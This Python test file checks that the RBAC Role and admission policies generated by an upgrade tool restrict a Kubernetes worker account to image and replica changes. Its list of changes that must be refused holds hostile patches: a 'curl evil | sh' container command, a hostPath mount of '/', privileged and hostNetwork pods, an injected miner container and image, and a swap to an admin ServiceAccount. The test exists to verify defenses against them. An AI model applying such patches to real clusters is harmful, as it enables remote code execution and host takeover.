"""``stackhop deploy rbac``'s Role and admission policies on the lab's real kube-apiserver.

The worker's ServiceAccount (a token of its own, not the admin's rights) gets what the plan needs:
the raw-object adapter's activities set an image, scale and wait on the plan's Deployment; every
other change is refused, by RBAC (a workload the plan does not name, anything it may not touch) or
by the ValidatingAdmissionPolicy (anything but images, replicas and stackhop.io/ annotations of a
named workload, and a Job with an image no recipe of the plan runs). Changes are sent as
server-side dry runs: admission runs in full, nothing is stored.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client
from kubernetes.client.exceptions import ApiException
from typer.testing import CliRunner

from activities.kube import scale, wait_rollout
from activities.kube_client import api_client, call
from cli import app
from cliapp.rbac import HELM_RULES, manifests
from lab.k8s.cluster import KubeLab
from model.io import ScaleInput, WaitRolloutInput
from model.loading import parse_plan
from model.plan import KubeTarget
from tests.k8s.helpers import Recorder, create, read, ref, set_image, token_kubeconfig, workload
from tests.k8s.helpers import job as helper_job
from tests.waiting import eventually_sync

pytestmark = pytest.mark.k8s

SA_NAME = "stackhop-worker"
OLD, NEW = "registry.lab/keystone:28.1.0", "registry.lab/keystone:29.1.0"
DB_IMAGE = "registry.lab/mariadb:10.11"
KUSTOMIZE = Path(__file__).resolve().parents[2] / "deploy" / "kustomize"

PLAN = f"""
apiVersion: stackhop/v1alpha1
kind: UpgradePlan
metadata: {{name: rbac}}
cloud: {{name: rbac, kubernetes: {{context: lab, namespace: NS}}, openstack: {{cloud: lab-admin}}}}
release: {{from: "2025.2", to: "2026.1"}}
services:
  - name: keystone
    database: {{name: keystone, runner: job, job_image: "{DB_IMAGE}"}}
    migration: {{mode: expand-contract, runner: job}}
    workloads:
      - {{kind: Deployment, name: keystone-api, container: app, image: "{NEW}"}}
"""

Patch = dict[str, Any]


def tpl(**pod: Any) -> Patch:
    return {"spec": {"template": {"spec": pod}}}


def container(**fields: Any) -> Patch:
    return tpl(containers=[{"name": "app", **fields}])


def job(image: str, privileged: bool = False, **pod: Any) -> Patch:
    """A db-sync Job (helpers.job) with more pod spec fields, or a privileged container."""
    body = helper_job(image)
    spec = body["spec"]["template"]["spec"]
    spec.update(pod)
    if privileged:
        spec["containers"][0]["securityContext"] = {"privileged": True}
    return body


# (what, kind, name, change): every one must be refused; "rbac" or the policy that says no
DENIED: list[tuple[str, str, str, Patch, str]] = [
    ("command", "Deployment", "keystone-api", container(command=["sh", "-c", "curl evil | sh"]), "policy"),
    ("env", "Deployment", "keystone-api", container(env=[{"name": "DEBUG", "value": "1"}]), "policy"),
    ("volumes", "Deployment", "keystone-api", tpl(volumes=[{"name": "root", "hostPath": {"path": "/"}}]), "policy"),
    ("serviceAccountName", "Deployment", "keystone-api", tpl(serviceAccountName="admin"), "policy"),
    ("privileged", "Deployment", "keystone-api", container(securityContext={"privileged": True}), "policy"),
    ("hostNetwork", "Deployment", "keystone-api", tpl(hostNetwork=True), "policy"),
    ("added container", "Deployment", "keystone-api", tpl(containers=[{"name": "miner", "image": "evil"}]), "policy"),
    # the pods leave a Service's selector (component=api): the Deployment's own selector is app only
    (
        "label",
        "Deployment",
        "keystone-api",
        {"spec": {"template": {"metadata": {"labels": {"component": "x"}}}}},
        "policy",
    ),
    ("other annotation", "Deployment", "keystone-api", {"metadata": {"annotations": {"owner": "me"}}}, "policy"),
    ("workload not in the plan", "Deployment", "other", container(image=NEW), "rbac"),
    ("Job image no recipe runs", "Job", "", job("registry.evil/miner:1"), "policy"),
    ("privileged Job", "Job", "", job(NEW, privileged=True), "policy"),
    ("hostNetwork Job", "Job", "", job(NEW, hostNetwork=True), "policy"),
    ("Job as another ServiceAccount", "Job", "", job(NEW, serviceAccountName="admin"), "policy"),
]


@pytest.fixture
def worker(k8s_lab: KubeLab, kube_target: KubeTarget, tmp_path: Path) -> Iterator[KubeTarget]:
    """The generated Role and policies applied for the plan, and a KubeTarget with the worker's token."""
    ns = kube_target.namespace
    k8s_lab.kubectl_run("create", "serviceaccount", SA_NAME, "-n", ns)
    docs = manifests([parse_plan(PLAN.replace("NS", ns))], (ns, SA_NAME))
    (tmp_path / "rbac.yaml").write_text(yaml.safe_dump_all(docs))
    cluster_scoped = [f"{d['kind'].lower()}/{d['metadata']['name']}" for d in docs if "namespace" not in d["metadata"]]
    try:
        k8s_lab.kubectl_run("apply", "-f", str(tmp_path / "rbac.yaml"))
        token = k8s_lab.kubectl_run("create", "token", SA_NAME, "-n", ns).stdout.strip()
        kubeconfig = token_kubeconfig(k8s_lab.kubeconfig, token, tmp_path / "worker.kubeconfig")
        yield KubeTarget(context="worker", namespace=ns, kubeconfig=str(kubeconfig))
    finally:
        k8s_lab.kubectl_run("delete", "--ignore-not-found", *cluster_scoped, check=False)


def attempt(target: KubeTarget, kind: str, name: str, change: Patch) -> ApiException | None:
    """Send the change as the worker (a dry run); the refusal, or None when it was allowed."""
    with api_client(target) as api:
        try:
            if kind == "Job":
                body = {**change, "metadata": {"generateName": "db-sync-"}}
                call(client.BatchV1Api(api).create_namespaced_job, target.namespace, body, dry_run="All")
            else:
                call(
                    client.AppsV1Api(api).patch_namespaced_deployment,
                    name,
                    target.namespace,
                    change,
                    dry_run="All",
                    _content_type="application/strategic-merge-patch+json",
                )
        except ApiException as exc:
            return exc
    return None


def refused_by(exc: ApiException | None) -> str:
    if exc is None:
        return "allowed"
    message = json.loads(exc.body or "{}").get("message", "")
    if "ValidatingAdmissionPolicy" in message:
        return "policy"
    return "rbac" if exc.status == 403 else f"{exc.status}: {message}"


def test_the_plans_role_and_policies_allow_images_and_replicas_only(
    worker: KubeTarget, kube_target: KubeTarget
) -> None:
    api = workload("Deployment", "keystone-api", OLD, replicas=1)
    # the pods also carry component=api (what a Service selects); the Deployment selects app only
    api["spec"]["template"]["metadata"]["labels"] = {"app": "keystone-api", "component": "api"}
    create(kube_target, api)
    create(kube_target, workload("Deployment", "other", OLD, replicas=1))
    # a policy is in force once the apiserver has loaded it and its binding, each on its own (in one
    # run the Jobs' came after the workloads'): the first denial of each kind says so (dry runs)
    for kind in ("Deployment", "Job"):
        _, _, name, change, _ = next(d for d in DENIED if d[1] == kind and d[4] == "policy")

        def loaded(kind: str = kind, name: str = name, change: Patch = change) -> bool:
            return refused_by(attempt(worker, kind, name, change)) == "policy"

        eventually_sync(loaded, within=30, what=f"the {kind} policy loaded")

    outcome: dict[str, str] = {
        what: refused_by(attempt(worker, kind, name, change)) for what, kind, name, change, _ in DENIED
    }
    assert outcome == {what: by for what, _, _, _, by in DENIED}

    # what the raw-object adapter does is allowed: its own activities, with the worker's token
    rec = Recorder()
    set_image(worker, "Deployment", "keystone-api", NEW, rec)
    rec.run(
        scale, ScaleInput(target=worker, workloads=[ref("Deployment", "keystone-api")], replicas={"keystone-api": 2})
    )
    rec.run(
        wait_rollout, WaitRolloutInput(target=worker, workloads=[ref("Deployment", "keystone-api")], timeout_seconds=60)
    )
    now = read(kube_target, "Deployment", "keystone-api")
    assert now["spec"]["replicas"] == 2
    assert {c["name"]: c["image"] for c in now["spec"]["template"]["spec"]["containers"]}["app"] == NEW
    # and a Job of the plan's recipes (db sync in the target image, the database tools image)
    assert attempt(worker, "Job", "", job(NEW)) is None
    assert attempt(worker, "Job", "", job(DB_IMAGE)) is None


def test_the_generated_helm_role_is_deploys() -> None:
    """The Helm adapter's rules are the same as deploy/kustomize/rbac-helm.yaml's (one source of
    truth for what Helm needs; the generated Role only adds names where RBAC can use them)."""
    docs = list(yaml.safe_load_all((KUSTOMIZE / "rbac-helm.yaml").read_text()))
    role = next(d for d in docs if d["kind"] == "Role")
    assert role["rules"] == HELM_RULES


def test_deploy_rbac_for_a_helm_cloud_with_a_data_plane(tmp_path: Path) -> None:
    """The command on the whole-cloud example: every service a Helm release (Helm's Role, no Jobs
    policy: the charts run their own Jobs), nova's data plane (its DaemonSets by name, pods, and the
    one cluster-wide right, list nodes); a bad --service-account is refused before anything."""
    out = tmp_path / "rbac.yaml"
    example = Path(__file__).resolve().parents[2] / "examples" / "lab-cloud.yaml"
    done = CliRunner().invoke(app, ["deploy", "rbac", str(example), "-o", str(out)])
    assert done.exit_code == 0, done.output
    docs = {(d["kind"], d["metadata"]["name"]): d for d in yaml.safe_load_all(out.read_text())}
    assert set(docs) == {
        ("Role", "stackhop-worker"),
        ("RoleBinding", "stackhop-worker"),
        ("Role", "stackhop-worker-helm"),
        ("RoleBinding", "stackhop-worker-helm"),
        ("ClusterRole", "stackhop-worker-nodes"),
        ("ClusterRoleBinding", "stackhop-worker-nodes"),
    }
    assert docs["ClusterRole", "stackhop-worker-nodes"]["rules"] == [
        {"apiGroups": [""], "resources": ["nodes"], "verbs": ["list"]}
    ]
    rules = docs["Role", "stackhop-worker"]["rules"]
    assert {"apiGroups": [""], "resources": ["pods"], "verbs": ["delete", "list", "watch"]} in rules
    # by name where RBAC can; the data plane's selector (every DaemonSet labelled nova compute) lists all
    assert {"apiGroups": ["apps"], "resources": ["daemonsets"], "verbs": ["get", "list", "watch"]} | {
        "resourceNames": ["nova-compute-default-a1339678"]
    } in rules
    assert {"apiGroups": ["apps"], "resources": ["daemonsets"], "verbs": ["list"]} in rules
    bad = CliRunner().invoke(app, ["deploy", "rbac", str(example), "--service-account", "worker"])
    assert bad.exit_code == 2 and "NAMESPACE/NAME" in bad.output
